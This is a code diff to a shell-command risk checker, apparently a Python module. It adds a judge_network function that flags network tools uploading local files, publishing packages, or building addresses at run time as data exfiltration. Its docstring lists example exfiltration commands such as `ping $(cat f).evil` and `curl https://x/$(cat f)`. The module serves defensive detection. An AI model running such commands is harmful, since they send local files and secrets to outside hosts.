@@ -1,4 +1,11 @@
-"""Network tools told, in an option, to read a local file into what they send.
+"""What goes out over the network: a network tool given local data, a publisher, an address
+built at run time; and the network tools told, in an option, to read a local file into what they
+send.
+
+Any network client that reads what it sends from its input, sends a file (`curl -T`, `--data
+@f`), or uploads to `host:` (scp, rsync, sftp); a publisher (`npm publish`, `gh gist create`, `aws
+s3 cp`); an address built at run time (`curl https://x/$(cat f)`, `ping $(cat f).evil`): each is
+`shell.exfiltrate` (`judge_network`). A local command in ssh's options runs a program.
 
 curl reads a file into a form field (`-F 'f=<file'` as text, `-F 'f=@file'` as an upload), into
 headers (`-H @file`), the query (`--url-query @file`), variables (`--variable n@file`) and
@@ -15,8 +22,8 @@ from __future__ import annotations
 
 import re
 
-from .options import is_option, operands_of, option_value
-from .paths import Context
+from .command_risk import Context, address_built_at_run_time, base_program, is_option, operands_of, option_value
+from .command_tables import ADDRESS_CLIENTS, DOWNLOADERS, NETWORK_CLIENTS, PUBLISHERS, UPLOAD_OPTIONS
 from .shell import SimpleCommand
 
 
@@ -134,3 +141,38 @@ JUDGES = {
     **{name: judge_ssh for name in ("ssh", "scp", "sftp")}, "gh": judge_gh, "glab": judge_gh,
     **{name: judge_mail for name in ("mail", "mailx", "mutt", "s-nail")},
 }
+
+
+def judge_network(cmd: SimpleCommand, ctx: Context) -> None:
+    """A publisher, an address built at run time, a network client sending a file or its input."""
+    program = base_program(cmd.program)
+    sub = cmd.args[0] if cmd.args else ""
+    publishes = PUBLISHERS.get(program, {})
+    then = cmd.args[1] if len(cmd.args) > 1 else ""
+    if "" in publishes or (sub in publishes and (not publishes[sub] or then in publishes[sub])):
+        ctx.found.add("shell.exfiltrate", f"{cmd.program} {sub}: publishes or uploads what is here".replace("  ", " "))
+    if program in NETWORK_CLIENTS or program in ADDRESS_CLIENTS:
+        address_built_at_run_time(cmd, ctx)
+    if program not in NETWORK_CLIENTS:
+        return
+    detail = ""
+    for k in range(len(cmd.args)):
+        for option in UPLOAD_OPTIONS:
+            value = option_value(cmd.args, k, option)
+            if value is not None and ("@" in value or option in ("-T", "--upload-file", "--post-file", "--body-file")):
+                detail = f"{cmd.program} {option} {value}"
+    stdin_sources = cmd.piped_from is not None or any(r.op in ("<", "<<", "<<<", "<<-") for r in cmd.redirects)
+    if program not in DOWNLOADERS and stdin_sources:
+        detail = detail or f"{cmd.program} reads what it sends from its input"
+    if program in ("scp", "rsync", "sftp"):
+        operands = [a for a in cmd.args if not a.startswith("-")]
+        if len(operands) >= 2 and re.match(r"^[\w.@-]+:", operands[-1]) and "://" not in operands[-1]:
+            detail = detail or f"{cmd.program} uploads to {operands[-1]}"
+    if detail:
+        ctx.found.add("shell.exfiltrate", detail)
+    if any(re.search(r"(?i)(proxy|local)command|permitlocalcommand", arg) for arg in cmd.args):
+        ctx.found.add("shell.option_runs_program", f"{cmd.program}: a local command in its options")
+
+
+NETWORK_PROGRAMS = NETWORK_CLIENTS | ADDRESS_CLIENTS | frozenset(PUBLISHERS)
+NETWORK = {name: judge_network for name in NETWORK_PROGRAMS}
